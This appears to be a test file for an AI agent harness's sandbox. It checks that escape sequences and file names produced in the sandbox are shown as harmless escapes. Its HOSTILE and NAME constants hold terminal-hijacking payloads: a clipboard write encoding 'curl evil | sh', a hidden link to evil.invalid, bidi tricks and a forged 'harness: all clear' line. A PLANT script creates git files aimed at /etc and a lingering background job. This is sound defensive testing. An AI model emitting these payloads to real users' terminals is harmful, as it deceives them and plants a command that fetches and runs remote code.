import { chmodSync, chownSync, copyFileSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { DockerSandbox } from "../../../src/sandbox/docker/docker-sandbox.js";
import { sanitizeForTerminal } from "../../../src/terminal/sanitize.js";
import { createBashTool } from "../../../src/tools/bash-tool.js";
import { skipDocker } from "../../support/docker-available.js";
import { useFakeApi } from "../../support/fake-api-fixture.js";
import { textReply, toolUseReply } from "../../support/fake-messages-api.js";
import { runCli } from "../../support/run-cli.js";
import { makeWorkspace, TEST_GID, TEST_UID } from "../../support/workspace.js";

/**
 * printf escapes for what a hostile program prints to take over the user's terminal: set the window
 * title, write the clipboard (OSC 52), clear the screen and reset the terminal, hide a link, and
 * reverse text with a bidi override.
 */
const HOSTILE =
  "printf 'a\\033]0;pwned title\\007b\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007c\\033[2J\\033[Hd\\033ce" +
  "\\033]8;;http://evil.invalid\\033\\\\link\\033]8;;\\033\\\\f\\342\\200\\256g\\n'";

describe.skipIf(skipDocker)("adversarial: terminal escape sequences in output", () => {
  it("arrive raw in the ExecResult, and the terminal layer shows them as escapes", async () => {
    using ws = makeWorkspace();
    await using sandbox = await DockerSandbox.open({ workspace: ws.path, removeOnStop: true });
    const result = await sandbox.exec(`${HOSTILE}; ${HOSTILE} >&2`);
    for (const stream of [result.stdout, result.stderr]) {
      // The model gets the bytes as printed: the sandbox does not rewrite output.
      expect(stream).toContain("\u001b]52;c;");
      expect(stream).toContain("\u001b]0;pwned title\u0007");
      expect(stream).toContain("\u001b[2J");
      expect(stream).toContain("\u202e");
      const shown = sanitizeForTerminal(stream);
      expect(shown).toBe(
        "a\\x1b]0;pwned title\\x07b\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07c\\x1b[2J\\x1b[Hd\\x1bce" +
          "\\x1b]8;;http://evil.invalid\\x1b\\link\\x1b]8;;\\x1b\\f\\u202eg\n",
      );
    }
  });

  it("reach the model as visible escapes, never as raw control characters", async () => {
    using ws = makeWorkspace();
    await using sandbox = await DockerSandbox.open({ workspace: ws.path, removeOnStop: true });
    const bash = createBashTool(sandbox, { timeoutMs: 30_000 });
    const { content } = await bash.run(bash.parse({ command: `${HOSTILE}; ${HOSTILE} >&2` }), {});
    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for raw control characters
    expect(content).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(content).toContain("\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07");
    expect(content).toContain("\\x1b]8;;http://evil.invalid\\x1b\\link");
    expect(content).toContain("f\\u202eg");
  });
});

/**
 * A name the sandbox chooses (a directory, a file, a command line) that writes the clipboard (OSC
 * 52), sets the window title (OSC 0), moves the cursor up and erases the line (to wipe the warning
 * printed just before), opens an 8-bit CSI (U+009B), reverses text (U+202E), hides itself (U+200B,
 * U+2066, U+FEFF), and starts a line of its own that looks like harness's.
 */
const NAME_PRINTF =
  "\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007\\033]0;pwned\\007\\033[1A\\033[2K\\302\\23331mred" +
  "\\342\\200\\256txt.exe\\342\\200\\213\\342\\201\\246\\357\\273\\277\\nharness: all clear";
const NAME =
  "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b]0;pwned\u0007\u001b[1A\u001b[2K\u009b31mred" +
  "\u202etxt.exe\u200b\u2066\ufeff\nharness: all clear";
/** How the name must look on the terminal: every control visible, on one line. */
const SHOWN =
  "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b]0;pwned\\x07\\x1b[1A\\x1b[2K\\x9b31mred" +
  "\\u202etxt.exe\\u200b\\u2066\\ufeff\\nharness: all clear";

/** Raw bytes a terminal acts on, or that hide or reorder text: none may reach it from the sandbox. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: looking for raw control characters
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

function expectNothingRaw(output: string): void {
  const found = RAW.exec(output);
  expect(
    found === null
      ? ""
      : `U+${found[0].codePointAt(0)?.toString(16)} at ${found.index}: ${JSON.stringify(output.slice(Math.max(0, found.index - 40), found.index + 40))}`,
  ).toBe("");
}

/** No line of harness's own (on stderr) was forged by a newline in a name. */
function expectNoForgedLine(stderr: string): void {
  expect(stderr).not.toMatch(/^harness: all clear/m);
}

/** The sandbox's part: a nested repository (and its commondir and hooks), a `.git` file, a background job. */
const PLANT = [
  `N="$(printf '${NAME_PRINTF}')"`,
  `mkdir -p "$N/.git/hooks" && echo /etc > "$N/.git/commondir" && echo 'exit 0' > "$N/.git/hooks/$N"`,
  `mkdir -p "d-$N" && echo 'gitdir: /etc' > "d-$N/.git"`,
  `nohup sh -c "sleep 300 # $N" >/dev/null 2>&1 &`,
  "echo planted",
].join("\n");

/** A setuid file with the name, made on the host (the sandbox cannot set the bit): the sweep names it. */
function plantSetuid(ws: string): void {
  const path = join(ws, `s-${NAME}`);
  copyFileSync("/bin/true", path);
  if (process.getuid?.() === 0) chownSync(path, TEST_UID, TEST_GID);
  chmodSync(path, 0o4755);
}

describe.skipIf(skipDocker)("adversarial: names from the sandbox on the host's terminal", () => {
  it("harness exec (bind): the git warning and the setuid notice show the names' controls as escapes", async () => {
    using ws = makeWorkspace();
    plantSetuid(ws.path);
    const run = await runCli(["exec", "--isolation", "bind", "-w", ws.path, "--", PLANT], {
      timeoutMs: 90_000,
    });
    expect(run.stdout).toBe("planted\n");
    expect(run.code).toBe(0);
    expectNothingRaw(run.stdout + run.stderr);
    expectNoForgedLine(run.stderr);
    // The warning is all there, and the user can see that the names carry something odd.
    // The planted git files are moved aside (a new `.git` whole), each named.
    expect(run.stderr).toContain("moved aside 2 files the sandbox created or changed");
    expect(run.stderr).toContain(`moved aside ${SHOWN}/.git (created)`);
    expect(run.stderr).toContain(`moved aside d-${SHOWN}/.git (created)`);
    expect(run.stderr).toContain("To put them all back: harness restore-git");
    expect(run.stderr).toContain(`removed the setuid bit from s-${SHOWN}`);
  });

  it("harness exec (copy): the change report shows the names' controls as escapes", async () => {
    using ws = makeWorkspace();
    const run = await runCli(
      ["exec", "--isolation", "copy", "--no-apply", "-w", ws.path, "--", `${PLANT}\necho hi > "f-$N"`],
      { timeoutMs: 90_000 },
    );
    expect(run.code).toBe(0);
    expectNothingRaw(run.stdout + run.stderr);
    expectNoForgedLine(run.stderr);
    // Names with controls are quoted as JSON strings (tree-diff.ts displayPath); what JSON leaves raw
    // (C1, bidi, zero-width) is escaped on the way out.
    expect(run.stderr).toContain(
      '"f-\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007\\u001b]0;pwned\\u0007\\u001b[1A\\u001b[2K\\x9b31mred\\u202etxt.exe\\u200b\\u2066\\ufeff\\nharness: all clear"',
    );
  });
});

describe.skipIf(skipDocker)("adversarial: a run's hostile text on the terminal and in `runs`", () => {
  const fake = useFakeApi();

  it("harness run, harness runs and runs show print no control character raw", async () => {
    using ws = makeWorkspace();
    const state = mkdtempSync(join(tmpdir(), "harness-state-"));
    try {
      plantSetuid(ws.path);
      fake.api.enqueue(
        toolUseReply(
          "bash",
          { command: `${PLANT}\nprintf "out: %s\\n" "$N"; printf "err: %s\\n" "$N" >&2; exit 3` },
          `Planting ${NAME}.`,
        ),
        textReply(`Done: ${NAME}`),
      );
      const env = { ...fake.env, XDG_STATE_HOME: state };
      const run = await runCli(["run", "--isolation", "bind", "--workspace", ws.path, `task ${NAME}`], {
        env,
        timeoutMs: 90_000,
      });
      expect(run.code).toBe(0);
      expectNothingRaw(run.stdout + run.stderr);
      expectNoForgedLine(run.stderr);
      // The model's text is many lines by nature: its newline stays one.
      expect(run.stdout).toContain(`Done: ${SHOWN.replace("\\n", "\n")}`);
      expect(run.stderr).toContain(`removed the setuid bit from s-${SHOWN}`);
      expect(run.stderr).toContain(`moved aside ${SHOWN}/.git (created)`);

      const list = await runCli(["runs"], { env });
      expect(list.code).toBe(0);
      expectNothingRaw(list.stdout + list.stderr);
      const [id] = (
        JSON.parse((await runCli(["runs", "--output-format", "json"], { env })).stdout) as { id: string }[]
      ).map((r) => r.id);
      const show = await runCli(["runs", "show", id ?? "?"], { env });
      expect(show.code).toBe(0);
      expectNothingRaw(show.stdout + show.stderr);
      expectNoForgedLine(show.stdout);
      expect(show.stdout).toContain(`task ${SHOWN.split("\\n")[0]}`);
      expect(show.stdout).toContain(`Planting ${SHOWN.split("\\n")[0]}`);
      expect(show.stdout).toContain(`Done: ${SHOWN.split("\\n")[0]}`);
    } finally {
      rmSync(state, { recursive: true, force: true });
    }
  });
});
